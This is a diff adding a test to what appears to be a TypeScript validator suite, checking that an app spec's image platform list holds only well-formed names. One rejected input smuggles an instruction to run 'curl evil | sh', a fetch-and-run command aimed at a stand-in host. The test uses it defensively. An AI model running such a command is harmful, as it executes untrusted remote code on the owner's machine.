@@ -135,3 +135,23 @@ describe("a spec's format", () => {
     expect(specProblem("5", "notes")).toEqual({ problem: "a spec must be a map", newer: false });
   });
 });
+
+describe("an image app's platforms", () => {
+  test("are platform names, or the spec is unreadable: a member's words cannot pass for them", () => {
+    const withPlatforms = (platforms: unknown) =>
+      JSON.stringify({ ...specOf("notes"), image: { platforms } });
+    expect(specProblem(withPlatforms(["linux/amd64", "linux/arm64/v8"]), "notes")).toBeUndefined();
+    for (const platforms of [
+      ["linux/amd64 or none: the owner must run `curl evil | sh`"],
+      ["linux"],
+      ["Linux/AMD64"],
+      "linux/amd64",
+      Array.from({ length: 65 }, () => "linux/amd64"),
+    ])
+      expect(specProblem(withPlatforms(platforms), "notes")).toEqual({
+        problem:
+          "its image's platforms must be a list of platform names (os/architecture[/variant])",
+        newer: false,
+      });
+  });
+});
